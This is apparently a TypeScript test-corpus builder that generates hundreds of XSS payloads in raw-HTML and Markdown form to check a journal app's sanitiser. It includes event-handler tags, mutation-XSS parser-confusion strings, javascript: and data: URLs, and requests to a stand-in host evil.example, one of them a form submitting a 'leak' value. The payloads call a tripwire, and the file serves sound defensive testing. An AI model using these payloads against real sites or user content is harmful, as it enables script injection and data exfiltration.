/**
 * The XSS corpus: attempts to run script, open dialogs, reach the network or restyle the page from
 * journal text, in raw-HTML and in Markdown form. Every payload that runs calls the page's tripwire,
 * `__xss(id)` (or `parent.__xss(id)` from a frame), or asks for https://evil.example/<id>, so a success
 * is counted, never missed. Built here as data; nothing is fetched.
 */
export interface Vector {
  id: number;
  form: 'html' | 'markdown';
  text: string;
}

const JS = (id: number) => `__xss(${id})`;
const EVIL = (id: number) => `https://evil.example/${id}`;
const b64 = (s: string) => Buffer.from(s).toString('base64');

/** Elements × event handlers: the classic way raw HTML runs script. */
const HANDLER_TAGS: [string, string][] = [
  ['<img src=x onerror={js}>', 'img onerror'],
  ['<img src="x" onerror="{js}">', 'img onerror quoted'],
  ['<IMG SRC=x ONERROR={js}>', 'img upper case'],
  ['<img/src=x/onerror={js}>', 'img slashes'],
  ['<img src=x onerror\n={js}>', 'img newline'],
  ['<svg onload={js}>', 'svg onload'],
  ['<svg/onload={js}>', 'svg slash onload'],
  ['<body onload={js}>', 'body onload'],
  ['<body onpageshow={js}>', 'body onpageshow'],
  ['<iframe onload={js}></iframe>', 'iframe onload'],
  ['<video src=x onerror={js}></video>', 'video onerror'],
  ['<video><source onerror={js}></video>', 'source onerror'],
  ['<audio src=x onerror={js}></audio>', 'audio onerror'],
  ['<input autofocus onfocus={js}>', 'input autofocus'],
  ['<select autofocus onfocus={js}></select>', 'select autofocus'],
  ['<textarea autofocus onfocus={js}></textarea>', 'textarea autofocus'],
  ['<keygen autofocus onfocus={js}>', 'keygen autofocus'],
  ['<details open ontoggle={js}>', 'details ontoggle'],
  ['<marquee onstart={js}>x</marquee>', 'marquee onstart'],
  ['<div onmouseover={js} style="position:fixed;inset:0">x</div>', 'div overlay mouseover'],
  ['<a onclick={js}>x</a>', 'a onclick'],
  ['<p onpointerenter={js}>x</p>', 'p pointerenter'],
  ['<div style="animation-name:spin" onanimationstart={js}>x</div>', 'animationstart'],
  ['<object data=x onerror={js}></object>', 'object onerror'],
  ['<embed src=x onload={js}>', 'embed onload'],
  ['<link rel=stylesheet href=x onerror={js}>', 'link onerror'],
  ['<style onload={js}></style>', 'style onload'],
  ['<table background=x onerror={js}>', 'table onerror'],
  ['<image src=x onerror={js}>', 'image alias'],
  ['<math><maction actiontype=statusline onclick={js}>x</maction></math>', 'math onclick'],
  ['<button onfocus={js} autofocus>x</button>', 'button autofocus'],
  ['<form onsubmit={js}><button>x</button></form>', 'form onsubmit'],
  ['<xss onfocus={js} autofocus tabindex=1>', 'unknown element'],
  ['<img src=x onerror={js}//', 'unclosed img'],
  ['<img src=x onerror=&#95;&#95;xss&#40;{id}&#41;>', 'entity-encoded handler'],
];

/** Script elements and their disguises. */
const SCRIPTS = [
  '<script>{js}</script>',
  '<SCRIPT>{js}</SCRIPT>',
  '<script >{js}</script >',
  '<script/x>{js}</script>',
  '<script type=module>{js}</script>',
  '<script src="data:text/javascript,{js}"></script>',
  '<script src={evil}></script>',
  '<<script>script>{js}<</script>/script>',
  '<scr<script>ipt>{js}</scr</script>ipt>',
  '<svg><script>{js}</script></svg>',
  '<svg><script href="data:,{js}"/></svg>',
  '<math><script>{js}</script></math>',
  '<template><script>{js}</script></template>',
  '<noscript><p title="</noscript><img src=x onerror={js}>">',
  '<noembed><img title="</noembed><img src=x onerror={js}>"></noembed>',
  '<title><img title="</title><img src=x onerror={js}>"></title>',
  '<textarea><img title="</textarea><img src=x onerror={js}>"></textarea>',
  '<style><img title="</style><img src=x onerror={js}>"></style>',
  '<xmp><img title="</xmp><img src=x onerror={js}>"></xmp>',
  '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror={js}>',
  '<svg></p><style><a id="</style><img src=x onerror={js}>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>',
  '<!--><img src=x onerror={js}>-->',
  '<![CDATA[<img src=x onerror={js}>]]>',
  '<?xml version="1.0"?><img src=x onerror={js}>',
  '<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>',
  '<svg><animate onbegin={js} attributeName=x dur=1s>',
  '<svg><set onbegin={js} attributeName=x to=1>',
  '<svg><a xlink:href="javascript:{js}"><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:{js}"/><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,{b64svg}#x"/></svg>',
];

/** URL-bearing attributes with script or network targets. */
const URLS = [
  '<a href="javascript:{js}">x</a>',
  '<a href="JaVaScRiPt:{js}">x</a>',
  '<a href=" javascript:{js}">x</a>',
  '<a href="java\tscript:{js}">x</a>',
  '<a href="java&#x09;script:{js}">x</a>',
  '<a href="&#106;avascript:{js}">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{js}">x</a>',
  '<a href="javascript&colon;{js}">x</a>',
  '<a href="vbscript:msgbox({id})">x</a>',
  '<a href="data:text/html,<script>{js}</script>">x</a>',
  '<a href="data:text/html;base64,{b64html}">x</a>',
  '<a href="{evil}" ping="{evil}">x</a>',
  '<a href="https://example.org" target=_blank rel=opener>x</a><img src=x onerror={js}>',
  '<iframe src="javascript:{js}"></iframe>',
  '<iframe src="data:text/html,<script>parent.{js}</script>"></iframe>',
  '<iframe src="{evil}"></iframe>',
  '<frameset><frame src="javascript:{js}"></frameset>',
  '<object data="javascript:{js}"></object>',
  '<object data="data:text/html;base64,{b64html}"></object>',
  '<embed src="data:text/html;base64,{b64html}">',
  '<embed src="{evil}">',
  '<form action="javascript:{js}"><button>x</button></form>',
  '<form><button formaction="javascript:{js}">x</button></form>',
  '<form action="{evil}"><input name=q value=leak></form>',
  '<input type=image src="{evil}">',
  '<img src="{evil}">',
  '<img srcset="{evil} 2x">',
  '<picture><source srcset="{evil}"><img></picture>',
  '<video poster="{evil}"></video>',
  '<audio src="{evil}"></audio>',
  '<link rel=stylesheet href="{evil}">',
  '<link rel=prefetch href="{evil}">',
  '<link rel=dns-prefetch href="{evil}">',
  '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
  '<meta http-equiv="refresh" content="0;url={evil}">',
  '<base href="{evil}/"><a href="x">x</a>',
  '<div style="background:url({evil})">x</div>',
  '<div style="background-image:url(javascript:{js})">x</div>',
  '<style>@import "{evil}";</style>',
  '<style>body{background:url({evil})}</style>',
  '<svg><image href="{evil}"/></svg>',
  '<svg><feImage href="{evil}"/></svg>',
  '<table background="{evil}"><tr><td>x</td></tr></table>',
  '<body background="{evil}">',
  '<isindex action="javascript:{js}" type=image>',
  '<a href="#" id="mend" name="mend">clobber window.mend</a><img src=x onerror={js}>',
];

/** Markdown syntax that a renderer might turn into live links, images or HTML. */
const MARKDOWN = [
  '[x](javascript:{js})',
  '[x](JAVASCRIPT:{js})',
  '[x]( javascript:{js} )',
  '[x](<javascript:{js}>)',
  '[x](javascript&#58;{js})',
  '[x](java%0ascript:{js})',
  '[x](&#x6A;avascript:{js})',
  '[x](vbscript:msgbox({id}))',
  '[x](data:text/html;base64,{b64html})',
  '[x](data:text/html,<script>{js}</script>)',
  '[x]({evil})',
  '[x](https://example.org "a\\" onmouseover=\\"{js}")',
  '[x](https://example.org "onmouseover={js}")',
  '[x][r]\n\n[r]: javascript:{js}',
  '[x][r]\n\n[r]: data:text/html;base64,{b64html}',
  '<javascript:{js}>',
  '<data:text/html;base64,{b64html}>',
  '![x](javascript:{js})',
  '![x]({evil})',
  '![x]({evil} "t")',
  '![x](x" onerror="{js})',
  '![x](x onerror={js})',
  '![x][i]\n\n[i]: {evil}',
  '[![x]({evil})](javascript:{js})',
  '**<img src=x onerror={js}>**',
  '_<svg onload={js}>_',
  '# <img src=x onerror={js}>',
  '> <script>{js}</script>',
  '- <img src=x onerror={js}>\n- item',
  '1. <details open ontoggle={js}>',
  '| a | b |\n|---|---|\n| <img src=x onerror={js}> | x |',
  '`<img src=x onerror={js}>`',
  '```html\n<script>{js}</script>\n```',
  '    <script>{js}</script>',
  '~~~\n<img src=x onerror={js}>\n~~~',
  '<div>\n\n[x](javascript:{js})\n\n</div>',
  '<a href="javascript:{js}">\n\n**x**\n\n</a>',
  'x<!--\n\n-->[x](javascript:{js})',
  '[x](javascript:{js} "title")',
  '[x](javascript://%0a{js})',
  '[x](javascript://example.org/%0a{js})',
  '[<img src=x onerror={js}>](https://example.org)',
  '[x](https://example.org)<img src=x onerror={js}>',
  'Text with a footnote[^1]\n\n[^1]: <img src=x onerror={js}>',
  '<https://example.org/"onmouseover="{js}>',
  '<mailto:x@example.org?body=<img src=x onerror={js}>>',
  'www.example.org/<img src=x onerror={js}>',
  '\\<img src=x onerror={js}>',
  '&lt;img src=x onerror={js}&gt;',
  '[x](mailto:a@example.org"onclick="{js})',
];

function fill(template: string, id: number): string {
  const svg = `<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>parent.${JS(id)}</script></svg>`;
  return template
    .replaceAll('{js}', JS(id))
    .replaceAll('{id}', String(id))
    .replaceAll('{evil}', EVIL(id))
    .replaceAll('{b64html}', b64(`<script>parent.${JS(id)}</script>`))
    .replaceAll('{b64svg}', b64(svg));
}

/** Each template alone, then each HTML template wrapped in Markdown contexts where parsers differ. */
export function buildCorpus(): Vector[] {
  const out: Vector[] = [];
  const add = (form: Vector['form'], template: string) => out.push({ id: out.length + 1, form, text: fill(template, out.length + 1) });
  for (const [t] of HANDLER_TAGS) add('html', t);
  for (const t of SCRIPTS) add('html', t);
  for (const t of URLS) add('html', t);
  for (const t of MARKDOWN) add('markdown', t);
  const wrappers = ['> {v}', '- {v}', '**{v}**', '# {v}', '| a |\n|---|\n| {v} |', 'Line one\n{v}\nLine three'];
  const htmlOnes = [...HANDLER_TAGS.map(([t]) => t), ...SCRIPTS, ...URLS];
  htmlOnes.forEach((t, i) => add('markdown', wrappers[i % wrappers.length]!.replace('{v}', t)));
  // Inline, nested and emphasised: the contexts where Markdown hands raw HTML through.
  const inline = ['Before {v} after.', '1. first\n   {v}', '*{v}*', '## {v}', '- [ ] {v}'];
  [...HANDLER_TAGS.map(([t]) => t), ...SCRIPTS].forEach((t, i) => add('markdown', inline[i % inline.length]!.replace('{v}', t)));
  return out;
}
